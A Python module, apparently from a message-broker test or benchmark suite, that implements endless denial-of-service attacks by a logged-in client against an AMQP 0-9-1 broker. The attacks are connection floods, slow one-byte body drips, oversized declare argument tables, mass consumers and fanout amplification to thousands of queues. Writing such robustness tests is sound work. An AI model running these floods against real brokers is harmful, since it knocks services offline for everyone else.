"""What somebody who may log in does to everybody else, over AMQP 0-9-1. Each goes on for ever."""

from __future__ import annotations

import struct
import threading
import time

from bench.hostile.attacks.strikes import CLOSE, again, bind, declare, empty, logged_in, number, publish, text
from bench.hostile.attacks.target import Target
from bench.wire import BODY, HEADER, Wire, WireError, frame, longstr, method, shortstr

CROWD, CROWDS = 1000, 3
QUEUES, BURST = 3000, 1000


def crowd(target: Target) -> None:
    """Thousands of connections, which come again as soon as they are refused."""
    for _ in range(CROWDS):
        threading.Thread(target=_crowd, args=(target,), daemon=True).start()
    _crowd(target)


def _crowd(target: Target) -> None:
    held: list[Wire] = []
    while True:
        try:
            held.append(logged_in(target))
        except (OSError, WireError):
            time.sleep(0.001)
        target.count.value += 1
        if len(held) > CROWD:
            held.pop(0).close()


def drip(target: Target) -> None:
    """16 MiB announced, and body frames of one octet."""
    head = frame(HEADER, 1, b"\0\x3c\0\0" + struct.pack(">QH", 16 << 20, 0))
    again(target, publish("") + head, frame(BODY, 1, b"x") * 10_000)


def tables(target: Target) -> None:
    """queue.declare with as large a table of arguments as is taken, and one that is not."""
    for size in (15 << 10, 100 << 10):
        threading.Thread(target=_tables, args=(target, size), daemon=True).start()
    threading.Event().wait()


def _tables(target: Target, size: int) -> None:
    entries = b"".join(text(f"k{n}", "v" * 20) for n in range(size // 32))
    again(target, b"", declare("tables", entries, flags=4 | 8) * 10)


def consumers(target: Target) -> None:
    """A channel's worth of consumers on ten channels of one queue, again and again."""
    opened = b"".join(method(n, 20, 10, shortstr("")) for n in range(2, 11))
    said = b"".join(
        method(channel, 60, 20, b"\0\0" + shortstr("many") + shortstr(f"{n}") + b"\x0a" + longstr(b""))
        for channel in range(1, 11)
        for n in range(999)
    )
    again(target, declare("many", flags=16) + opened, said + CLOSE)


def fanout(target: Target) -> None:
    """Empty messages, a thousand in one write, to an exchange with thousands of queues of its own, each of
    which keeps one."""
    short = number("x-max-length", 1)
    declared = b"".join(
        declare(f"own{n}", short, flags=4 | 16) + bind(f"own{n}", "amq.fanout") for n in range(QUEUES)
    )
    again(target, declared, (publish("amq.fanout") + empty()) * BURST)
